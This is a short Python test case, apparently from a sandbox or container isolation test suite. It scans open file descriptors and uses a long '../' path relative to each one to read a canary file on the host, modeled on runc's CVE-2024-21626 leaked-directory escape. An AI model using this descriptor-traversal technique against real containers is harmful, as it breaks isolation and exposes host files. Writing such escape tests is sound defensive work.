# attack: use an open descriptor of a directory to reach the host's tree
# class: 11
# walls: environment mount landlock
# naked: no nothing here leaks a directory

# runc's CVE-2024-21626: one leaked directory is the whole host.
def attempt():
    for fd in range(0, 1100):
        try:
            other = os.open("../" * 40 + context["canary_file"][1:], os.O_RDONLY, dir_fd=fd)
        except OSError:
            continue
        return "descriptor %d led to %r" % (fd, os.read(other, 200))

result = judged(attempt)
